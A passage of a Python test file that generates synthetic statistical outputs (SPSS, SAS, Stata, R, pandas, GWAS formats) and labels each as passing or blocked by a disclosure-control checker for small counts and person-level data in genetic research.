    return "Ages ranged widely: the oldest participant was 97 years old.\n"


@case("methods_numbers.md", Expect.PASS, "methods text with thresholds, seeds and age bands", D)
def _(path, rng):
    return (
        "# Methods\n\nMinimum cell count: 10\nNumber of variants: 120000\nseed = 42\n\n"
        "Variants with MAC < 20 were removed. The youngest age band was 40-49 and the oldest "
        "80 to 89. We fitted three models with 10 principal components.\n"
    )


@case("birth_dates.csv", Expect.BLOCK, "dates of birth and sex of 120 people", D)
def _(path, rng):
    days = rng.integers(0, 20_000, 120)
    dates = pd.Timestamp("1940-01-01") + pd.to_timedelta(days, unit="D")
    return "date_of_birth,sex\n" + "".join(
        f"{d:%Y-%m-%d},{s}\n" for d, s in zip(dates, rng.choice(["F", "M"], 120), strict=True)
    )


@case("births_by_decade.csv", Expect.PASS, "counts of people by decade of birth", D)
def _(path, rng):
    return "birth_decade,n\n1940s,55\n1950s,120\n1960s,140\n1970s,95\n"


@case("count_marked.csv", Expect.BLOCK, "a count of 3 with a footnote mark: '3*'", D)
def _(path, rng):
    return "group,n,note\nA,3*,* fewer than planned\nB,120,\nC,85,\n"


@case("count_after_share.csv", Expect.BLOCK, "carriers as '2.5% (3)'", D)
def _(path, rng):
    return "group,carriers\nA,2.5% (3)\nB,33.3% (40)\n"


@case("count_as_fraction.csv", Expect.BLOCK, "carriers as a fraction: '3/120'", D)
def _(path, rng):
    return "group,carriers\nA,3/120\nB,40/120\n"


@case("count_in_words.csv", Expect.BLOCK, "a count column with 'three' in it", D)
def _(path, rng):
    return "group,n\nA,three\nB,120\n"


@case("dates_and_ratios.csv", Expect.PASS, "counts of 20 and more beside dates and ratios", D)
def _(path, rng):
    return "visit,n,ratio\n2020/01/15,120,1/2\n2020/03/12,85,3/4\n2020/06/01,40,1/1\n"


@case("genes_and_variants.txt", Expect.PASS, "lists of genes, rsIDs, Ensembl IDs, eigenvalues", D)
def _(path, rng):
    genes = ["BRCA1", "TP53", "HLA-DRB1", "APOE", "PCSK9", "LDLR", "CETP", "ABCA1", "LPL", "APOB"]
    lines = genes + [f"rs{int(j)}" for j in rng.integers(10_000, 90_000_000, 20)]
    lines += [f"ENSG{int(j):011d}" for j in rng.integers(100_000, 300_000, 20)]
    lines += [f"1_{int(p)}_A_G" for p in np.sort(rng.integers(10_000, 2_000_000, 20))]
    lines += [f"{x:.4e}" for x in np.sort(rng.uniform(0.5, 4, 10))[::-1]]
    return "".join(line + "\n" for line in lines)


E = "printed"


@case("spss_pasted.txt", Expect.BLOCK, "SPSS frequencies pasted as plain text (spacing lost)", E)
def _(path, rng):
    return (
        "sex\n        Frequency Percent Valid Percent Cumulative Percent\n"
        "Valid F 3 2.5 2.5 2.5\nM 117 97.5 97.5 100.0\nTotal 120 100.0 100.0\n"
    )


@case("spss_pasted_safe.txt", Expect.PASS, "SPSS frequencies of 30 and 90, pasted as text", E)
def _(path, rng):
    return (
        "sex\n        Frequency Percent Valid Percent Cumulative Percent\n"
        "Valid F 30 25.0 25.0 25.0\nM 90 75.0 75.0 100.0\nTotal 120 100.0 100.0\n"
    )


@case("sas_means.lst", Expect.BLOCK, "SAS PROC MEANS of 7 people: one row under N", E)
def _(path, rng):
    rule = "    " + "-" * 66 + "\n"
    return (
        "                                 The MEANS Procedure\n\n"
        "                                Analysis Variable : age\n\n"
        "     N            Mean         Std Dev         Median\n" + rule +
        "     7      54.2857143      12.3456789      54.0000000\n" + rule
    )  # fmt: skip


@case("python_counter.txt", Expect.BLOCK, "Python's print of a Counter of genotypes", E)
def _(path, rng):
    return "genotype counts at rs334:\nCounter({'0/0': 1205, '0/1': 450, '1/1': 2})\n"


@case("dict_pprint.log", Expect.BLOCK, "pprint of carriers by sex over lines in a log", E)
def _(path, rng):
    return (
        "2026-01-05 10:00:01 INFO carriers of the variant by sex\n"
        "{'female': 3,\n 'male': 117}\n2026-01-05 10:00:02 INFO done\n"
    )


@case("python_dict.txt", Expect.PASS, "Python's print of a dict of large counts (not JSON)", E)
def _(path, rng):
    return "{'0/0': 1205, '0/1': 450, '1/1': 200}\n"


@case("settings_in_log.log", Expect.PASS, "a log printing the run's settings as a dict", E)
def _(path, rng):
    return (
        "2026-01-05 10:00:00 INFO settings {'threads': 2, 'seed': 42, 'memory_mb': 8000}\n"
        "2026-01-05 10:00:01 INFO epoch {'epoch': 1, 'loss': 0.6931}\n"
        "2026-01-05 10:00:02 INFO epoch {'epoch': 2, 'loss': 0.5124}\n"
    )


@case("cojo_joint.jma.cojo", Expect.PASS, "GCTA-COJO joint results, several variants", E)
def _(path, rng):
    rows = [f"22 rs{100 + j} {16_000_000 + 5000 * j} A {0.1 + 0.02 * j:.3f} 0.05 0.01 "
            f"{10.0 ** -(9 + j):.1e} 9000 {0.1 + 0.02 * j:.3f} 0.05 0.01 1e-9 0.1"
            for j in range(5)]  # fmt: skip
    return "Chr SNP bp refA freq b se p n freq_geno bJ bJ_se pJ LD_r\n" + "\n".join(rows) + "\n"


@case("cojo_rare.cma.cojo", Expect.BLOCK, "GCTA-COJO results with an allele seen twice", E)
def _(path, rng):
    return (
        "Chr SNP bp refA freq b se p n freq_geno bC bC_se pC\n"
        "22 rs1 100 A 0.001 0.9 0.2 1e-8 900 0.001 0.9 0.2 1e-8\n"
        "22 rs2 900 G 0.3 0.1 0.02 1e-9 900 0.3 0.1 0.02 1e-9\n"
    )


_SEX_COUNTS = (("F", 3), ("M", 117))
_SEX_COUNTS_SAFE = (("F", 30), ("M", 90))


def _polars(counts) -> str:
    rows = "".join(f"│ {s}   ┆ {n:<3} │\n" for s, n in counts)
    return (
        "shape: (2, 2)\n┌─────┬─────┐\n│ sex ┆ n   │\n│ --- ┆ --- │\n│ str ┆ u32 │\n"
        "╞═════╪═════╡\n" + rows + "└─────┴─────┘\n"
    )


def _tibble(counts) -> str:
    rows = "".join(f"{j} {s}     {n:>5}\n" for j, (s, n) in enumerate(counts, start=1))
    return "# A tibble: 2 × 2\n  sex       n\n  <chr> <int>\n" + rows


@case("polars_print.txt", Expect.BLOCK, "a polars DataFrame printed (box drawing, types)", E)
def _(path, rng):
    return _polars(_SEX_COUNTS)


@case("polars_print_safe.txt", Expect.PASS, "a polars DataFrame of counts of 30 and 90", E)
def _(path, rng):
    return _polars(_SEX_COUNTS_SAFE)


@case("tibble_print.txt", Expect.BLOCK, "a tibble printed: row numbers and column types", E)
def _(path, rng):
    return _tibble(_SEX_COUNTS)


@case("tibble_print_safe.txt", Expect.PASS, "a tibble of counts of 30 and 90, printed", E)
def _(path, rng):
    return _tibble(_SEX_COUNTS_SAFE)


def _snptest(het: int, hom: int) -> str:
    header = (
        "alternate_ids rsid chromosome position alleleA alleleB index info all_AA all_AB all_BB "
        "all_NULL all_total all_maf frequentist_add_pvalue frequentist_add_beta_1 "
        "frequentist_add_se_1\n"
    )
    rows = "".join(
        f"1:{1000 + j} rs{j} 1 {1000 + j} A G {j + 1} 0.98 {300 - het - hom} {het} {hom} 0 300 "
        f"{(het + 2 * hom) / 600:.4f} 0.3 0.1 0.05\n"
        for j in range(30)
    )
    return "# SNPTEST v2.5.4\n" + header + rows


@case("snptest.out", Expect.BLOCK, "SNPTEST with all_AB = 8 people", C)
def _(path, rng):
    return _snptest(8, 20)


@case("snptest_safe.out", Expect.PASS, "SNPTEST with genotype counts of 100 and 20", S)
def _(path, rng):
    return _snptest(100, 20)


@case("enrichment.tsv", Expect.REVIEW, "pathway enrichment: genes in the overlap, 1 to 8", F)
def _(path, rng):
    rows = "".join(
        f"PATH{j}\t{rng.integers(10, 300)}\t{rng.integers(1, 9)}\t{rng.random():.3g}\n"
        for j in range(30)
    )
    return "pathway\tn_genes\toverlap\tp\n" + rows


@case("pathway_counts.csv", Expect.BLOCK, "pathways with a count column n of 3", C)
def _(path, rng):
    return "pathway,n\nPATH1,3\nPATH2,40\nPATH3,55\n"


@case("gene_tests.tsv", Expect.REVIEW, "gene-based tests with n_variants of 2 to 39", F)
def _(path, rng):
    rows = "".join(
        f"GENE{j}\t1\t{j * 10000}\t{rng.integers(2, 40)}\t{rng.random():.3g}\t"
        f"{rng.normal(0, 0.1):.3f}\n"
        for j in range(50)
    )
    return "gene\tchrom\tstart\tn_variants\tp_skato\tbeta_burden\n" + rows


@case("prs_hashed_ids.csv", Expect.BLOCK, "polygenic scores of 150 people under hashed IDs", I)
def _(path, rng):
    import hashlib

    ids = [hashlib.sha256(f"person{j}".encode()).hexdigest()[:16] for j in range(150)]
    return "id_hash,prs\n" + "".join(f"{h},{rng.normal():.5f}\n" for h in ids)


@case("prs_uuid_ids.tsv", Expect.BLOCK, "residuals of 60 people under random UUIDs", I)
def _(path, rng):
    import uuid

    rows = "".join(f"{uuid.UUID(int=int(rng.integers(1 << 62)))}\t{rng.normal():.4f}\n"
                   for _ in range(60))  # fmt: skip
    return "key\tresidual\n" + rows


@case("prs_pooled.csv", Expect.BLOCK, "a score per person of the node's datasets pooled (900)", I)
def _(path, rng):
    return "prs,ldl\n" + "".join(f"{rng.normal():.5f},{rng.normal(3, 1):.3f}\n" for _ in range(900))


@case("scores_by_hash.json", Expect.BLOCK, "a JSON object of 150 hashed IDs to scores", I)
def _(path, rng):
    import hashlib

    ids = [hashlib.sha1(str(j).encode()).hexdigest()[:12] for j in range(150)]
    return json.dumps({h: round(float(rng.normal(100, 15)), 2) for h in ids})


@case("checksums.csv", Expect.REVIEW, "a manifest of 25 files with their SHA-256", F)
def _(path, rng):
    import hashlib

    digests = [hashlib.sha256(str(j).encode()).hexdigest() for j in range(25)]
    rows = "".join(f"out/part{j}.tsv,{d},{j * 1000 + 17}\n" for j, d in enumerate(digests))
    return "file,sha256,bytes\n" + rows


def _daner(cases: int, controls: int, frq_a) -> str:
    header = f"CHR\tSNP\tBP\tA1\tA2\tFRQ_A_{cases}\tFRQ_U_{controls}\tINFO\tOR\tSE\tP\tngt\n"
    return header + "".join(
        f"1\trs{j}\t{1000 + j}\tA\tG\t{frq_a(j):.5f}\t{0.21 + j / 1000:.5f}\t"
        "0.9\t1.1\t0.05\t0.3\t0\n"
        for j in range(40)
    )


@case("daner_pgc.txt", Expect.BLOCK, "PGC daner: FRQ_A_120 of 1 to 3 alleles", C)
def _(path, rng):
    return _daner(120, 340, lambda j: (j % 3 + 1) / 240)


@case("daner_pgc_safe.txt", Expect.PASS, "PGC daner of 1,200 cases and 3,400 controls", S)
def _(path, rng):
    return _daner(1200, 3400, lambda j: 0.2 + j / 1000)


@case("daner_pgc_seven.txt", Expect.BLOCK, "PGC daner of 7 cases (FRQ_A_7)", C)
def _(path, rng):
    return _daner(7, 3400, lambda j: 0.5)


def _plink_model(geno_aff: str) -> str:
    rows = [("GENO", geno_aff, "38/52/110", 2), ("TREND", "100/200", "128/272", 1),
            ("ALLELIC", "100/200", "128/272", 1)]  # fmt: skip
    return (
        " CHR         SNP   A1   A2     TEST            AFF          UNAFF        CHISQ   DF  P\n"
        + "".join(
            f"   1   rs3094315    G    A {t:>8} {a:>15} {u:>14}         0.62 {df:>4}  0.7334\n"
            for t, a, u, df in rows
        )
    )


@case("plink.model", Expect.BLOCK, "plink 1.9 --model: 3 cases homozygous", C)
def _(path, rng):
    return _plink_model("3/40/107")


@case("plink_safe.model", Expect.PASS, "plink 1.9 --model with counts of 30 and more", S)
def _(path, rng):
    return _plink_model("30/40/80")


@case("somalier.pairs.tsv", Expect.BLOCK, "somalier relatedness of pairs of people", I)
def _(path, rng):
    header = "#sample_a\tsample_b\trelatedness\tibs0\tibs2\tn\n"
    rows = "".join(
        f"P{a:04d}\tP{b:04d}\t{rng.uniform(-0.1, 0.6):.3f}\t12\t4000\t15000\n"
        for a, b in rng.integers(1, 301, size=(60, 2)).tolist()
    )
    return header + rows


def _sas_crosstab(female: tuple[int, int], male: tuple[int, int]) -> str:
    n = sum(female) + sum(male)

    def group(label: str, a: int, b: int) -> str:
        pct = lambda x: f"{100 * x / n:6.2f}"  # noqa: E731
        return (
            f"  {label:<8} | {a:6d} | {b:6d} | {a + b:6d}\n"
            f"           | {pct(a)} | {pct(b)} | {pct(a + b)}\n"
            "  ---------+--------+--------+\n"
        )

    return (
        "                 The FREQ Procedure\n\n"
        "              Table of sex by carrier\n\n"
        "  sex       carrier\n\n"
        "  Frequency|\n"
        "  Percent  |       0|       1|  Total\n"
        "  ---------+--------+--------+\n"
        + group("female", *female)
        + group("male", *male)
        + f"  Total     {female[0] + male[0]:6d}   {female[1] + male[1]:6d}   {n:6d}\n"
    )


@case("sas_crosstab.txt", Expect.BLOCK, "SAS PROC FREQ crosstab with a cell of 3", E)
def _(path, rng):
    return _sas_crosstab((230, 3), (220, 40))


@case("sas_crosstab_safe.txt", Expect.PASS, "SAS PROC FREQ crosstab of rounded counts", E)
def _(path, rng):
    return _sas_crosstab((230, 30), (220, 40))


def _julia(counts) -> str:
    rows = "".join(f"   {j} │ {s}         {n:>3}\n" for j, (s, n) in enumerate(counts, start=1))
    return "2×2 DataFrame\n Row │ sex     n\n     │ String  Int64\n─────┼────────────────\n" + rows


@case("julia_print.txt", Expect.BLOCK, "a Julia DataFrame printed (row numbers, types)", E)
def _(path, rng):
    return _julia(_SEX_COUNTS)


@case("julia_print_safe.txt", Expect.PASS, "a Julia DataFrame of counts of 30 and 90", E)
def _(path, rng):
    return _julia(_SEX_COUNTS_SAFE)


def _confusion(cells: list[list[int]]) -> str:
    rows = "\n ".join("[" + " ".join(f"{c:4d}" for c in row) + "]" for row in cells)
    return f"Confusion matrix (rows: true class, columns: predicted):\n[{rows}]\n"


@case("numpy_confusion.txt", Expect.BLOCK, "a NumPy confusion matrix with cells of 3, 2, 1", E)
def _(path, rng):
    return _confusion([[3, 2], [1, 40]])


@case("numpy_confusion_safe.txt", Expect.PASS, "a NumPy confusion matrix of rounded counts", E)
def _(path, rng):
    return _confusion([[130, 20], [15, 400]])


@case("python_confusion.txt", Expect.BLOCK, "a confusion matrix as a Python list, one line", E)
def _(path, rng):
    return ">>> confusion_matrix(y_true, y_pred).tolist()\n[[3, 2], [1, 40]]\n"


def _classification_report(support: tuple[int, int]) -> str:
    a, b = support
    return (
        "              precision    recall  f1-score   support\n\n"
        f"           0       0.75      0.60      0.67      {a:4d}\n"
        f"           1       0.95      0.97      0.96      {b:4d}\n\n"
        f"    accuracy                           0.93      {a + b:4d}\n"
        f"   macro avg       0.85      0.79      0.81      {a + b:4d}\n"
    )


@case("classification_report.txt", Expect.BLOCK, "scikit-learn's report, a class of 5", E)
def _(path, rng):
    return _classification_report((5, 40))


@case("classification_report_safe.txt", Expect.PASS, "scikit-learn's report, 150 and 400", E)
def _(path, rng):
    return _classification_report((150, 400))


def _event_table(rows: list[tuple[float, int, int, int]]) -> str:
    at_risk = 600
    lines = ["          removed  observed  censored  entrance  at_risk", "event_at"]
    for t, removed, observed, censored in rows:
        lines.append(f"{t:<8}  {removed:>7}  {observed:>8}  {censored:>8}  {0:>8}  {at_risk:>7}")
        at_risk -= removed
    return "\n".join(lines) + "\n"


@case("lifelines_events.txt", Expect.BLOCK, "lifelines' event_table with 3 people removed", E)
def _(path, rng):
    return _event_table([(2.0, 3, 2, 1), (5.0, 20, 20, 0)])


@case("lifelines_events_safe.txt", Expect.PASS, "lifelines' event_table, times as its index", E)
def _(path, rng):
    return _event_table([(2.0, 30, 20, 10), (5.0, 20, 20, 0), (9.0, 40, 10, 30)])


@case("np_unique_counts.txt", Expect.BLOCK, "NumPy's unique values with counts, one of 3", E)
def _(path, rng):
    return (
        ">>> np.unique(df.sex, return_counts=True)\n"
        "(array(['F', 'M'], dtype=object), array([117,   3]))\n"
    )


@case("np_unique_counts_safe.txt", Expect.PASS, "NumPy's unique values with rounded counts", E)
def _(path, rng):
    return ">>> np.unique(gt, return_counts=True)\n(array([0, 1, 2]), array([2500,  450,   30]))\n"


def _pandas_multiindex(counts: list[int]) -> str:
    frame = pd.DataFrame({"sex": ["F", "F", "M", "M"], "case": [0, 1, 0, 1], "n": counts})
    return repr(frame.set_index(["sex", "case"]).n) + "\n"


@case("pandas_multiindex.txt", Expect.PASS, "a pandas Series by sex and case status 0/1", E)
def _(path, rng):
    return _pandas_multiindex([90, 30, 90, 20])


@case("pandas_multiindex_small.txt", Expect.BLOCK, "a pandas Series by sex and case, a 3", E)
def _(path, rng):
    return _pandas_multiindex([90, 3, 90, 20])


@case("most_common.txt", Expect.BLOCK, "Counter.most_common(): [('M', 117), ('F', 3)]", E)
def _(path, rng):
    return ">>> Counter(carrier_sex).most_common()\n[('M', 117), ('F', 3)]\n"


@case("most_common_safe.txt", Expect.PASS, "Counter.most_common() of rounded counts", E)
def _(path, rng):
    return ">>> Counter(carrier_sex).most_common()\n[('M', 1170), ('F', 300)]\n"


@case("tuple_rows.txt", Expect.BLOCK, "rows as a list of tuples, carriers 2 and 1", E)
def _(path, rng):
    return 'rows = [("rs123", "A", 2), ("rs456", "G", 1), ("rs789", "T", 40)]\n'


@case("markdown_bold_count.md", Expect.BLOCK, "a Markdown table with the 3 in bold", E)
def _(path, rng):
    return "| Sex | Carriers |\n|-----|----------|\n| F   | **3**    |\n| M   | 117      |\n"


@case("sample_ids_in_urls.txt", Expect.BLOCK, "sample IDs URL-encoded: 'DK%20000017'", E)
def _(path, rng):
    return "".join(f"https://viewer.example/?id={s[:2]}%20{s[2:]}\n" for s in sample_ids("dk", 5))


def _stata_logistic(n: int) -> str:
    return (
        ". logistic case rs123 age\n\n"
        f"Logistic regression                                     Number of obs = {n:>6,}\n"
        "                                                        LR chi2(2)    =  76.21\n"
        "                                                        Prob > chi2   = 0.0000\n"
        "Log likelihood = -3012.4471                             Pseudo R2     = 0.0125\n\n"
        "------------------------------------------------------------------------------\n"
        "        case | Odds ratio   Std. err.      z    P>|z|     [95% conf. interval]\n"
        "-------------+----------------------------------------------------------------\n"
        "       rs123 |   1.251023   .0612114     4.58   0.000     1.136613    1.376952\n"
        "         age |   1.012019   .0021234     5.69   0.000     1.007866    1.016190\n"
        "       _cons |   .2812231   .0412345    -8.65   0.000     .2110123    .3747211\n"
        "------------------------------------------------------------------------------\n"
    )


@case("stata_logistic.log", Expect.PASS, "Stata's logistic over 4,812 people (odds ratios)", E)
def _(path, rng):
    return _stata_logistic(4812)


@case("stata_logistic_small.log", Expect.BLOCK, "Stata's logistic over 8 people", E)
def _(path, rng):
    return _stata_logistic(8)


def _stata_stcox(failures: int) -> str:
    return (
        ". stcox rs123 age\n\nCox regression with Breslow method for ties\n\n"
        "No. of subjects =      4,812                            Number of obs =  4,812\n"
        f"No. of failures = {failures:>10,}\n"
        "Time at risk    = 23,114.2\n"
        "                                                        LR chi2(2)    =  40.11\n"
        "Log likelihood = -4712.1121                             Prob > chi2   = 0.0000\n\n"
        "------------------------------------------------------------------------------\n"
        "          _t | Haz. ratio   Std. err.      z    P>|z|     [95% conf. interval]\n"
        "-------------+----------------------------------------------------------------\n"
        "       rs123 |   1.251023   .0612114     4.58   0.000     1.136613    1.376952\n"
        "         age |   1.012019   .0021234     5.69   0.000     1.007866    1.016190\n"
        "------------------------------------------------------------------------------\n"
    )


@case("stata_stcox.log", Expect.PASS, "Stata's stcox, 612 failures among 4,812", E)
def _(path, rng):
    return _stata_stcox(612)


@case("stata_stcox_small.log", Expect.BLOCK, "Stata's stcox with 4 failures (events)", E)
def _(path, rng):
    return _stata_stcox(4)


def _r_tableone(males_in_cases: int) -> str:
    return (
        "                     Stratified by case\n"
        "                      0              1              p      test\n"
        "  n                   1200           300                       \n"
        "  age (mean (SD))     50.10 (10.20)  52.30 (9.80)   <0.001     \n"
        f"  sex = M (%)          600 (50.0)    {males_in_cases:>3} "
        f"({100 * males_in_cases / 300:4.1f})     <0.001     \n"
        "  smoker (%)                                         0.210     \n"
        "     never             700 (58.3)    180 (60.0)                \n"
        "     current           500 (41.7)    120 (40.0)                \n"
    )


@case("r_tableone.txt", Expect.PASS, "R's tableone print, groups 0 and 1 of 1,200 and 300", E)
def _(path, rng):
    return _r_tableone(150)


@case("r_tableone_small.txt", Expect.BLOCK, "R's tableone print with '3 ( 1.0)' men", E)
def _(path, rng):
    return _r_tableone(3)


def _py_tableone(males_in_cases: int) -> str:
    return (
        "                      Grouped by case                                    \n"
        "                                Missing       Overall            0            1\n"
        "n                                              1500         1200          300\n"
        "age, mean (SD)                        0  50.5 (10.1)  50.1 (10.2)   52.3 (9.8)\n"
        f"sex, n (%)           F                     750 (50.0)   600 (50.0)   "
        f"{300 - males_in_cases:>3} ({100 - males_in_cases / 3:.1f})\n"
        f"                     M                     750 (50.0)   600 (50.0)   "
        f"{males_in_cases:>3} ({males_in_cases / 3:.1f})\n"
    )


@case("py_tableone.txt", Expect.PASS, "Python's tableone print, groups 0 and 1", E)
def _(path, rng):
    return _py_tableone(150)


@case("py_tableone_small.txt", Expect.BLOCK, "Python's tableone print with 3 men in group 1", E)
def _(path, rng):
    return _py_tableone(3)


@case("gtsummary_thousands.md", Expect.PASS, "gtsummary's 'N = 1,200' header is not N = 1", E)
def _(path, rng):
    return (
        "|**Characteristic** | **0**, N = 1,200 | **1**, N = 300 |\n"
        "|:------------------|:----------------:|:--------------:|\n"
        "|Age                | 50 (43, 58)      | 52 (45, 60)    |\n"
        "|F                  | 600 (50%)        | 150 (50%)      |\n"
        "|M                  | 600 (50%)        | 150 (50%)      |\n"
    )


@case("epitab.txt", Expect.PASS, "epitools' epitab: counts, proportions, an odds ratio of 1", E)
def _(path, rng):
    return (
        "          Outcome\n"
        "Predictor  Disease1        p0 Disease2        p1 oddsratio    lower    upper    p.value\n"
        "  Exposed1      120 0.8888889       40 0.2962963  1.000000       NA       NA         NA\n"
        "  Exposed2       15 0.1111111       95 0.7037037  19.00000 9.900000 36.47000 1.2e-19\n"
    )


@case("fisher_test.txt", Expect.BLOCK, "R's fisher.test print of matrix(c(3, 117, 12, 98))", E)
def _(path, rng):
    return (
        "\n\tFisher's Exact Test for Count Data\n\n"
        "data:  matrix(c(3, 117, 12, 98), nrow = 2)\n"
        "p-value = 0.01412\n"
        "alternative hypothesis: true odds ratio is not equal to 1\n"
    )


@case("prop_test.txt", Expect.BLOCK, "R's prop.test print of c(3, 40) out of c(120, 110)", E)
def _(path, rng):
    return (
        "\n\t2-sample test for equality of proportions with continuity correction\n\n"
        "data:  c(3, 40) out of c(120, 110)\n"
        "X-squared = 35.2, df = 1, p-value = 2.9e-09\n"
    )


@case("binom_test.txt", Expect.BLOCK, "R's binom.test print: 'number of successes = 3'", E)
def _(path, rng):
    return (
        "\n\tExact binomial test\n\ndata:  3 and 120\n"
        "number of successes = 3, number of trials = 120, p-value = 1.1e-30\n"
    )


@case("sample1.hg38_multianno.txt", Expect.BLOCK, "ANNOVAR output keeping a VCF's calls", I)
def _(path, rng):
    head = ("Chr\tStart\tEnd\tRef\tAlt\tFunc.refGene\tGene.refGene\tgnomAD_exome_ALL\t"
            + "\t".join(f"Otherinfo{k}" for k in range(1, 14)))  # fmt: skip
    rows = []
    for i in range(20):
        gt = ("0/1", "1/1")[int(rng.integers(2))]
        rows.append(
            f"22\t{1000 + i}\t{1000 + i}\tA\tG\texonic\tGENE{i}\t0.0001\t{gt}\t99\t35\t22\t"
            f"{1000 + i}\t.\tA\tG\t99\tPASS\tAC=1;AN=2\tGT:AD:DP:GQ\t{gt}:20,15:35:99"
        )
    return head + "\n" + "\n".join(rows) + "\n"


def _stargazer(n: int, dof: int, k: int = 2) -> str:
    return (
        "===============================================\n"
        "                        Dependent variable:\n"
        "                    ---------------------------\n"
        "                                ldl\n"
        "-----------------------------------------------\n"
        "rs123                        0.082***\n"
        "                             (0.021)\n\n"
        "Constant                     3.102***\n"
        "                             (0.210)\n\n"
        "-----------------------------------------------\n"
        f"Observations                  {n:,}\n"
        "R2                            0.031\n"
        "Adjusted R2                   0.030\n"
        f"Residual Std. Error     0.912 (df = {dof})\n"
        f"F Statistic          76.9*** (df = {k}; {dof})\n"
        "===============================================\n"
        "Note:               *p<0.1; **p<0.05; ***p<0.01\n"
    )


@case("stargazer_model.txt", Expect.PASS, "stargazer's text regression table, 4,812 people", E)
def _(path, rng):
    return _stargazer(4812, 4809)


@case("stargazer_small_model.txt", Expect.BLOCK, "stargazer: 7 observations, df = 5", E)
def _(path, rng):
    return _stargazer(7, 5)


@case("stargazer_model.tex", Expect.PASS, "stargazer's LaTeX regression table", E)
def _(path, rng):
    return (
        "\\begin{table}[!htbp] \\centering\n"
        "\\begin{tabular}{@{\\extracolsep{5pt}}lc}\n"
        "\\\\[-1.8ex]\\hline\n"
        " & \\multicolumn{1}{c}{\\textit{Dependent variable:}} \\\\\n"
        "\\\\[-1.8ex] & ldl \\\\\n\\hline \\\\[-1.8ex]\n"
        " rs123 & 0.082$^{***}$ \\\\\n  & (0.021) \\\\\n"
        " Constant & 3.102$^{***}$ \\\\\n  & (0.210) \\\\\n"
        "\\hline \\\\[-1.8ex]\n"
        "Observations & 4,812 \\\\\n"
        "R$^{2}$ & 0.031 \\\\\n"
        "Residual Std. Error & 0.912 (df = 4809) \\\\\n"
        "\\hline\n\\end{tabular}\n\\end{table}\n"
    )


@case("stargazer_two_models.txt", Expect.BLOCK, "stargazer: a second model of 7 people", E)
def _(path, rng):
    return (
        "=======================================\n"
        "                  ldl        hdl\n"
        "---------------------------------------\n"
        "rs123          0.082***     0.031\n"
        "               (0.021)     (0.050)\n"
        "---------------------------------------\n"
        "Observations    4,812         7\n"
        "R2              0.031       0.120\n"
        "=======================================\n"
    )


def _stata_regress(n: str, dof: int) -> str:
    return (
        f"      Source |       SS           df       MS      Number of obs   = {n:>9}\n"
        f"-------------+----------------------------------   F(2, {dof})  =      3.21\n"
        "       Model |  2.1234         2  1.0617          Prob > F        =    0.1250\n"
        f"    Residual |  1.6543  {dof:>8}  .33086          R-squared       =    0.5621\n"
        "-------------+----------------------------------   Adj R-squared   =    0.3869\n"
        "       Total |  3.7777  {dof + 2:>8}  .539671         Root MSE        =    .57521\n\n"
        "------------------------------------------------------------------------------\n"
        "         ldl | Coefficient  Std. err.      t    P>|t|     [95% conf. interval]\n"
        "-------------+----------------------------------------------------------------\n"
        "       rs123 |   .0820131   .0210012     3.91   0.011     .0280282     .135998\n"
        "         age |   .0110021   .0040011     2.75   0.040     .0007169    .0212873\n"
        "       _cons |   3.102001   .2100121    14.77   0.000     2.562148    3.641854\n"
        "------------------------------------------------------------------------------\n"
    )


@case("stata_regress.log", Expect.BLOCK, "Stata's regress of 8 people: F(2, 5)", E)
def _(path, rng):
    return _stata_regress("8", 5)


@case("stata_regress_safe.log", Expect.PASS, "Stata's regress of 4,812 people", E)
def _(path, rng):
    return _stata_regress("4,812", 4809)


@case("tabulate_grid.txt", Expect.BLOCK, "Python tabulate's fancy_grid of counts", E)
def _(path, rng):
    return (
        "╒═══════╤═════╕\n│ sex   │   n │\n╞═══════╪═════╡\n│ F     │   3 │\n"
        "├───────┼─────┤\n│ M     │ 117 │\n╘═══════╧═════╛\n"
    )


@case("prettytable.txt", Expect.BLOCK, "PrettyTable's ASCII table of counts", E)
def _(path, rng):
    rule = "+-----+-----+\n"
    return rule + "| sex |  n  |\n" + rule + "|  F  |  3  |\n|  M  | 117 |\n" + rule


@case("r_table_one_way.txt", Expect.BLOCK, "R's print of table() of one factor", E)
def _(path, rng):
    return "sex\n  F   M \n  3 117 \n"


@case("run_resources.log", Expect.PASS, "a log with one line of numbers under labels", E)
def _(path, rng):
    return "Run summary\n workers threads\n       2       4\n"


@case("excel_pivot.txt", Expect.BLOCK, "an Excel pivot table pasted: 'Count of sample_id'", E)
def _(path, rng):
    return "Row Labels\tCount of sample_id\nF\t3\nM\t117\nGrand Total\t120\n"


@case("stargazer.tex", Expect.BLOCK, "a stargazer regression table of 7 observations", E)
def _(path, rng):
    return (
        "\\begin{table}[!htbp] \\centering\n\\begin{tabular}{@{\\extracolsep{5pt}}lc}\n"
        "\\\\[-1.8ex]\\hline\n & \\multicolumn{1}{c}{\\textit{Dependent variable:}} \\\\\n"
        "\\cline{2-2}\n\\\\[-1.8ex] & ldl \\\\\n\\hline \\\\[-1.8ex]\n"
        " carrier & 0.512$^{**}$ \\\\\n  & (0.201) \\\\\n  & \\\\\n"
        "\\hline \\\\[-1.8ex]\nObservations & 7 \\\\\nR$^{2}$ & 0.120 \\\\\n\\hline\n"
        "\\end{tabular}\n\\end{table}\n"
    )


@case("carriers.yaml", Expect.BLOCK, "carriers by sex as a YAML mapping under its name", E)
def _(path, rng):
    return "variant: rs334\ncarriers_by_sex:\n  female: 3\n  male: 117\n"


@case("genotype_counts.yml", Expect.BLOCK, "genotype counts as YAML with quoted keys", E)
def _(path, rng):
    return 'genotype_counts:\n  "0/0": 1205\n  "0/1": 450\n  "1/1": 2\n'


@case("workflow_config.yaml", Expect.PASS, "a workflow's settings: small whole numbers", E)
def _(path, rng):
    return (
        "resources:\n  threads: 2\n  memory_gb: 8\n  retries: 3\nqc:\n  maf: 0.01\n"
        "  geno: 0.05\n  mind: 0.1\n"
    )


@case("resources_in_log.log", Expect.PASS, "a log printing resources as Python dicts", E)
def _(path, rng):
    return (
        "INFO resources {'memory_gb': 8, 'cpus': 4}\n"
        "INFO params {'k': 5, 'n_iter': 3, 'window': 50}\n"
    )


@case("scores_by_person.txt", Expect.BLOCK, "a dict of 300 people's scores, keys not IDs", E)
def _(path, rng):
    scores = ", ".join(f"'p{j}': {x:.4f}" for j, x in enumerate(rng.normal(0, 1, 300)))
    return "{" + scores + "}\n"


H = "human"


def _figure(fmt: str) -> bytes:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.bar(["dk", "se", "uk"], [300, 300, 300])
    buffer = io.BytesIO()
    fig.savefig(buffer, format=fmt)
    plt.close(fig)
    return buffer.getvalue()


